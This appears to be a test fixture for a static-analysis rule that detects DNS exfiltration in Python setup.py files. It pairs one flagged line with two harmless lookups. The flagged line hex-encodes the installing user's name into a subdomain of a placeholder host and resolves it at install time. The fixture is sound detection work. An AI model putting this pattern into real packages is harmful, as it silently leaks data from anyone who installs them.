import getpass
import socket

from setuptools import setup

# ruleid: dns-exfiltration
socket.gethostbyname(getpass.getuser().encode().hex() + ".x.example.invalid")

# ok: dns-exfiltration
LOCAL_IP = socket.gethostbyname(socket.gethostname())

# ok: dns-exfiltration
socket.getaddrinfo("pypi.example.invalid", 443)

setup(name="demo-fixture", version="0.1", packages=["pkg"])
